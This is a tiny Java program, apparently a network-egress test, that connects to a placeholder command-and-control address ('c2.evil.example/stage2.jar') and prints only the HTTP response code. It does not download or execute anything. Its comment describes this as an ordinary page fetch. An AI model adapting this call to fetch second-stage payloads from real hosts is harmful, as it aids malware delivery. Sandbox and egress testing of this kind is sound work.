import java.net.HttpURLConnection;
import java.net.URL;

/** Fetches a page by HTTPS as any Java program does, and says what came. */
public class Fetch {
    public static void main(String[] arguments) throws Exception {
        HttpURLConnection web = (HttpURLConnection) new URL("https://c2.evil.example/stage2.jar").openConnection();
        System.out.println("NET java " + web.getResponseCode());
    }
}
